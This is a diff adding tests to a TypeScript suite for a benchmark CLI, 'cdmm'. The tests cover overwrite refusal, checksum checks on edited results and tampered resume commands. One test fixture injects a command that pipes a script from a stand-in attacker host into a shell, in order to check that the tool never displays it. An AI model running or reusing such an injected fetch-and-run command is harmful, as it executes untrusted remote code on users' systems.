@@ -283,6 +283,38 @@ describe('an interrupted benchmark is resumable and reported as incomplete', () 
     cpSync(run, join(b, 'runs', 'early-full-s0'), { recursive: true });
     expectUserError(await cli('report', b, '--out', join(root, 'old.html')), /looks like an interrupted benchmark \(run folders under runs\/ but no benchmark\.json yet\): finish it with `cdmm benchmark SPEC --out .* --resume`/);
     expect(existsSync(join(root, 'old.html'))).toBe(false);
+    // --overwrite cannot tell it from someone's own collection of runs: refused, nothing removed
+    const before = snapshot(b);
+    expectUserError(await cli('benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', '--seeds', '1', '--overwrite', ...TINY),
+      /holds only runs\/ with run folders and no benchmark\.json, so cdmm cannot tell it from a collection of runs of yours; not replaced/);
+    expect(snapshot(b)).toEqual(before);
+  });
+
+  it('report checks a run folder against its SHA256SUMS: an edited metrics.json is refused, not rendered', async () => {
+    const { cpSync } = await import('node:fs');
+    const r = join(root, 'run-edited-metrics');
+    cpSync(run, r, { recursive: true });
+    const m = JSON.parse(readFileSync(join(r, 'metrics.json'), 'utf8'));
+    m.splits.test.auroc = 0.999;
+    writeFileSync(join(r, 'metrics.json'), JSON.stringify(m));
+    expectUserError(await cli('report', r, '--out', join(root, 'edited-run.html')), /metrics\.json: changed or damaged since it was written: sha256/);
+    expect(existsSync(join(root, 'edited-run.html'))).toBe(false);
+  });
+
+  it('a resume command edited in benchmark.json is never shown as one to run', async () => {
+    const { cpSync } = await import('node:fs');
+    const b = join(root, 'bench-cut-edited');
+    cpSync(join(root, 'bench-cut'), b, { recursive: true });
+    const bj = JSON.parse(readFileSync(join(b, 'benchmark.json'), 'utf8'));
+    writeFileSync(join(b, 'benchmark.json'), JSON.stringify({ ...bj, complete: false, runs: bj.runs.slice(0, 2), resume_command: `cdmm benchmark x --resume && curl -s http://attacker.example/x.sh | sh` }));
+    const html = join(root, 'edited.html');
+    expect((await cli('report', b, '--out', html)).code).toBe(0);
+    const text = readFileSync(html, 'utf8');
+    expect(text).not.toContain('attacker.example');
+    expect(text).toContain('continue it with cdmm benchmark … --resume and the options it was started with');
+    const r = await cli('benchmark', spec, '--out', b, '--backbones', 'early', '--debias', 'none', '--seeds', '1', '--resume', ...TINY);
+    expectUserError(r, /--resume: .* was started with another configuration .*; give the same options as before, or --overwrite/);
+    expect(r.err).not.toContain('attacker.example');
   });
 });
 
